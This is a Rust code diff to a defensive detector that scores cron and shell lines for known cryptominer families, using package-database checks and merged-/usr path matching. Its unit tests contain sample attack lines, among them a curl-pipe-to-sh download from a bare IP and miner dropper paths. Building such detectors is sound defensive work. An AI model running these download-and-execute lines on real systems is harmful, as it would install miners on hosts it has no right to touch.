@@ -7,12 +7,13 @@
 
 use minetrace_schemas::findings::{Finding, Severity, Subject};
 use minetrace_schemas::records::file::{FileKind, FileRecord};
+use minetrace_schemas::records::package::PackageVerdict;
 use minetrace_schemas::{escape_bytes, RawBytes};
 
 use crate::detect::finding::{file_subject, persistence_subject, FindingExt};
 use crate::detect::Context;
 use crate::indicators::Indicators;
-use crate::model::HostModel;
+use crate::model::{usr_twin, HostModel};
 use crate::parse::passwd::{parse_passwd, PasswdEntry};
 use crate::parse::shell_line::{self, ShellLine};
 use crate::parse::{basename, contains};
@@ -24,6 +25,9 @@ pub struct Score {
     pub reasons: Vec<String>,
     /// A family marker matched what persists.
     pub family: Option<String>,
+    /// Programs the line runs that a family `path` or `name` marker names (as written): named as file
+    /// subjects, and weighed against the package database by [`score_line`].
+    pub marker_targets: Vec<Vec<u8>>,
 }
 
 impl Score {
@@ -37,6 +41,11 @@ impl Score {
         self.reasons.extend(other.reasons);
         if self.family.is_none() {
             self.family = other.family;
+        }
+        for t in other.marker_targets {
+            if !self.marker_targets.contains(&t) {
+                self.marker_targets.push(t);
+            }
         }
     }
 
@@ -72,9 +81,21 @@ pub fn score_shell(text: &[u8], iocs: &Indicators) -> (Score, ShellLine) {
             "opens a /dev/tcp socket (reverse shell or curl-less download)",
         );
     }
+    // A bare IP is weak alone: health checks and local APIs are reached by address too. Only a download
+    // that is run makes the address worth more; an address a program listens on is not reached at all
+    // (`listen_ips`).
     if !s.bare_ips.is_empty() {
-        let pts = if s.download { 2 } else { 1 };
-        score.add(pts, format!("reaches bare IP {}", s.bare_ips.join(", ")));
+        let ips = s.bare_ips.join(", ");
+        if s.download_to_shell || s.download_then_exec {
+            score.add(2, format!("runs what it downloads from bare IP {ips}"));
+        } else if s.download {
+            score.add(
+                1,
+                format!("fetches from bare IP {ips} (the response is not run)"),
+            );
+        } else {
+            score.add(1, format!("reaches bare IP {ips}"));
+        }
     }
     if let Some(p) = s.temp_exec.first() {
         score.add(
@@ -118,15 +139,43 @@ pub fn score_shell(text: &[u8], iocs: &Indicators) -> (Score, ShellLine) {
         {
             score.add(2, format!("reaches mining pool domain {domain}"));
         }
-        if let Some(m) = iocs.family_markers.iter().find(|m| {
-            (m.kind == "cron" && lossy.contains(m.value.as_str()))
-                || (m.kind == "path" && s.executed.iter().any(|p| path_marker_matches(&m.value, p)))
-                || (m.kind == "name"
-                    && s.executed.iter().any(|p| basename(p) == m.value.as_bytes()))
-        }) {
+        // What the line runs, against `path` and `name` markers: every program a marker names is kept
+        // (for subjects); the points count once.
+        let mut first: Option<(&crate::indicators::FamilyMarker, Option<&[u8]>)> = None;
+        for m in &iocs.family_markers {
+            let hit = match m.kind.as_str() {
+                "cron" => lossy.contains(m.value.as_str()).then_some(None),
+                "path" => s
+                    .executed
+                    .iter()
+                    .find(|p| path_marker_matches(&m.value, p))
+                    .map(|p| Some(p.as_slice())),
+                "name" => s
+                    .executed
+                    .iter()
+                    .find(|p| name_marker_matches(&m.value, basename(p)))
+                    .map(|p| Some(p.as_slice())),
+                _ => None,
+            };
+            let Some(target) = hit else {
+                continue;
+            };
+            if let Some(t) = target {
+                if !score.marker_targets.iter().any(|x| x.as_slice() == t) {
+                    score.marker_targets.push(t.to_vec());
+                }
+            }
+            if first.is_none() {
+                first = Some((m, target));
+            }
+        }
+        if let Some((m, target)) = first {
+            let what = target
+                .map(|t| format!(" (runs {})", escape_bytes(t)))
+                .unwrap_or_default();
             score.add(
-                4,
-                format!("matches {} marker {} {}", m.family, m.kind, m.value),
+                MARKER_POINTS,
+                format!("matches {} marker {} {}{what}", m.family, m.kind, m.value),
             );
             score.family = Some(m.family.clone());
         }
@@ -134,14 +183,108 @@ pub fn score_shell(text: &[u8], iocs: &Indicators) -> (Score, ShellLine) {
     (score, s)
 }
 
-/// A `path` family marker: exact, or a prefix when it ends in `/`; `~`-relative paths match any home.
-pub fn path_marker_matches(marker: &str, path: &[u8]) -> bool {
-    let m = marker.as_bytes();
-    if m.ends_with(b"/") {
-        path.starts_with(m) || (m.starts_with(b"/.") && contains(path, m))
-    } else {
-        path == m
+/// Points of a family marker on what a line runs.
+pub const MARKER_POINTS: u32 = 4;
+
+/// [`score_shell`] plus what the host's package database says about the programs a family marker named:
+/// a program its package installed with a matching digest is not the family's (the marker's points and
+/// family are withdrawn when every named program is such); one no package owns, or that differs from its
+/// package's copy, is what a dropper leaves (+1, +2).
+pub fn score_line(ctx: &Context, text: &[u8]) -> (Score, ShellLine) {
+    let (mut score, s) = score_shell(text, ctx.iocs);
+    if score.marker_targets.is_empty() {
+        return (score, s);
     }
+    let mut owned = 0;
+    let mut unowned = false;
+    let mut replaced = false;
+    for t in &score.marker_targets {
+        match ctx.model.package_check(t).map(|c| (c.verdict, c)) {
+            Some((PackageVerdict::Match, c)) => {
+                owned += 1;
+                score.reasons.push(format!(
+                    "{} is installed by package {} with a matching digest",
+                    escape_bytes(t),
+                    c.package.as_deref().unwrap_or("?")
+                ));
+            }
+            Some((PackageVerdict::NotOwned, _)) => unowned = true,
+            Some((PackageVerdict::Mismatch, _)) => replaced = true,
+            _ => {}
+        }
+    }
+    let lossy = String::from_utf8_lossy(text);
+    let cron_marker = ctx
+        .iocs
+        .family_markers
+        .iter()
+        .any(|m| m.kind == "cron" && lossy.contains(m.value.as_str()));
+    if owned == score.marker_targets.len() && !cron_marker {
+        // Every program the marker named is the package's own: the marker does not count.
+        score.points = score.points.saturating_sub(MARKER_POINTS);
+        score
+            .reasons
+            .push("so the family marker does not count".into());
+        score.family = None;
+        score.marker_targets.clear();
+        return (score, s);
+    }
+    if replaced {
+        score.add(
+            2,
+            "a program the marker names differs from its package's copy",
+        );
+    } else if unowned {
+        score.add(1, "no package owns a program the marker names");
+    }
+    (score, s)
+}
+
+/// A `name` family marker against a file or program name: the name itself, the name followed by digits
+/// (`kdevtmpfsi2`), or the name followed by an extension (`dota3.tar.gz`, `kinsing.sh`). ASCII case is
+/// ignored.
+pub fn name_marker_matches(marker: &str, name: &[u8]) -> bool {
+    let m = marker.as_bytes();
+    let Some(head) = name.get(..m.len()) else {
+        return false;
+    };
+    if m.is_empty() || !head.eq_ignore_ascii_case(m) {
+        return false;
+    }
+    let rest = name.get(m.len()..).unwrap_or_default();
+    rest.is_empty()
+        || rest.iter().all(u8::is_ascii_digit)
+        || (rest.starts_with(b".") && rest.len() > 1)
+}
+
+/// Adds the points of a persistence file whose own path is a family `path` marker
+/// (`/etc/cron.d/perfclean`): every job line in it is the family's.
+pub fn persistence_file_marker(iocs: &Indicators, file: &FileRecord, score: &mut Score) {
+    if let Some(family) = family_of_path(iocs, file.path.as_bytes()) {
+        score.add(
+            MARKER_POINTS,
+            format!(
+                "{} is a known {family} persistence file",
+                file.path.escaped()
+            ),
+        );
+        score.family.get_or_insert(family);
+    }
+}
+
+/// A `path` family marker: exact, or a prefix when it ends in `/`; `~`-relative paths match any home.
+/// A marker under `/bin`, `/sbin`, `/lib`, `/lib64` also matches the `/usr` twin and the other way round
+/// (merged `/usr`: the attacker's `/usr/bin/sysdr` is the campaign's `/bin/sysdr`).
+pub fn path_marker_matches(marker: &str, path: &[u8]) -> bool {
+    let matches = |path: &[u8]| {
+        let m = marker.as_bytes();
+        if m.ends_with(b"/") {
+            path.starts_with(m) || (m.starts_with(b"/.") && contains(path, m))
+        } else {
+            path == m
+        }
+    };
+    matches(path) || usr_twin(path).is_some_and(|t| matches(&t))
 }
 
 /// The family whose `path` marker names this file, if any.
@@ -281,16 +424,69 @@ pub fn line_finding(
         f = f.evidence(r.clone());
     }
     f = f.evidence(format!("file: {}", describe_file(file)));
-    if let Some(s) = shell {
-        if severity >= Severity::Medium {
+    if severity >= Severity::Medium {
+        let mut named: Vec<&[u8]> = Vec::new();
+        if let Some(s) = shell {
             for p in s.temp_exec.iter().chain(s.hidden_exec.iter()) {
-                if let Some(target) = ctx.model.file(p) {
-                    f = f.subject(file_subject(target));
+                if let Some(target) = ctx.model.file_aliased(p) {
+                    if !named.contains(&target.path.as_bytes()) {
+                        named.push(target.path.as_bytes());
+                        f = f.subject(file_subject(target));
+                    }
                 }
             }
         }
+        // Programs a family marker names: the captured file or running executable, or the name as the
+        // line writes it when the snapshot holds no record of it.
+        for p in &score.marker_targets {
+            let Some((subject, recorded)) = program_subject(ctx.model, p) else {
+                continue;
+            };
+            let Subject::File { path, .. } = &subject else {
+                continue;
+            };
+            if named.contains(&path.as_bytes()) {
+                continue;
+            }
+            named.push(p);
+            if !recorded {
+                f = f.evidence(format!(
+                    "{} is not in the snapshot's file records",
+                    escape_bytes(p)
+                ));
+            }
+            f = f.subject(subject);
+        }
     }
     Some(f)
+}
+
+/// The file subject for a program a line names: its file record (merged-`/usr` aliases followed), else
+/// the running executable recorded at that path, else the absolute path as written (with no hash).
+/// The flag says whether the snapshot recorded it.
+pub fn program_subject(model: &HostModel, path: &[u8]) -> Option<(Subject, bool)> {
+    if let Some(f) = model.file_aliased(path) {
+        return Some((file_subject(f), true));
+    }
+    let twin = usr_twin(path).filter(|_| model.usr_merged(path));
+    if let Some(e) = model
+        .executables
+        .iter()
+        .find(|e| e.path.as_bytes() == path || twin.as_deref() == Some(e.path.as_bytes()))
+    {
+        let subject = Subject::File {
+            path: e.path.clone(),
+            sha256: e.sha256.clone(),
+        };
+        return Some((subject, true));
+    }
+    path.starts_with(b"/").then(|| {
+        let subject = Subject::File {
+            path: RawBytes::from(path),
+            sha256: None,
+        };
+        (subject, false)
+    })
 }
 
 /// Extra points for a file locked against removal, given only when the content is already suspicious.
@@ -384,5 +580,69 @@ mod tests {
         let (s, _) = score_shell(b"~/.configrc/a/upd>/dev/null 2>&1", &iocs);
         assert!(s.severity() >= Some(Severity::High), "{s:?}");
         assert_eq!(s.family.as_deref(), Some("Outlaw"));
+    }
+
+    #[test]
+    fn bare_ips_weigh_by_what_is_done_with_them() {
+        let iocs = Indicators::builtin();
+        // A health check fetched by address and thrown away: low at most.
+        let (s, _) = score_shell(
+            b"curl -fsS -m 5 http://127.0.0.1:8080/healthz >/dev/null || sudo systemctl restart api",
+            &iocs,
+        );
+        assert_eq!(s.severity(), Some(Severity::Low), "{s:?}");
+        // An address the program listens on is not reached.
+        let (s, _) = score_shell(b"/opt/api/bin/api-server --listen 127.0.0.1:8080", &iocs);
+        assert_eq!(s.severity(), None, "{s:?}");
+        // A download from an address that is run: high.
+        let (s, _) = score_shell(b"curl -fsSL http://127.66.3.1/cr.sh | sh", &iocs);
+        assert!(s.severity() >= Some(Severity::High), "{s:?}");
+        assert!(s
+            .reasons
+            .iter()
+            .any(|r| r.contains("runs what it downloads")));
+    }
+
+    #[test]
+    fn name_markers_match_names_with_digits_or_extensions() {
+        assert!(name_marker_matches("dota3", b"dota3"));
+        assert!(name_marker_matches("dota3", b"dota3.tar.gz"));
+        assert!(name_marker_matches("kdevtmpfsi", b"kdevtmpfsi2"));
+        assert!(name_marker_matches("Kinsing", b"kinsing.sh"));
+        assert!(name_marker_matches(".diicot", b".diicot"));
+        assert!(!name_marker_matches("dota3", b"dota3x"));
+        assert!(!name_marker_matches("dota3", b"dota3."));
+        assert!(!name_marker_matches("dota3", b"xdota3.tar.gz"));
+        assert!(!name_marker_matches(
+            "sysupdate",
+            b"systemd-sysupdate.service"
+        ));
+        assert!(!name_marker_matches("", b"x"));
+    }
+
+    #[test]
+    fn path_markers_follow_merged_usr() {
+        assert!(path_marker_matches("/bin/sysdr", b"/usr/bin/sysdr"));
+        assert!(path_marker_matches("/bin/sysdr", b"/bin/sysdr"));
+        assert!(!path_marker_matches("/bin/sysdr", b"/usr/local/bin/sysdr"));
+        assert!(path_marker_matches("/.configrc/", b"~/.configrc/a/upd"));
+        let iocs = Indicators::builtin();
+        let (s, _) = score_shell(b"/usr/bin/sysdr >/dev/null 2>&1", &iocs);
+        assert!(s.severity() >= Some(Severity::High), "{s:?}");
+        assert_eq!(s.family.as_deref(), Some("8220/PwnRig"));
+        assert_eq!(s.marker_targets, vec![b"/usr/bin/sysdr".to_vec()]);
+        // A copy that is run names its source too.
+        let (s, _) = score_shell(
+            b"cp -f -- /usr/bin/bprofr /tmp/dbused && /tmp/dbused -c",
+            &iocs,
+        );
+        assert!(
+            s.marker_targets.contains(&b"/usr/bin/bprofr".to_vec()),
+            "{s:?}"
+        );
+        assert!(s.marker_targets.contains(&b"/tmp/dbused".to_vec()), "{s:?}");
+        // Mentioned only (a cleanup line): nothing.
+        let (s, _) = score_shell(b"rm -f /usr/bin/sysdr /tmp/dbused", &iocs);
+        assert_eq!(s.severity(), None, "{s:?}");
     }
 }
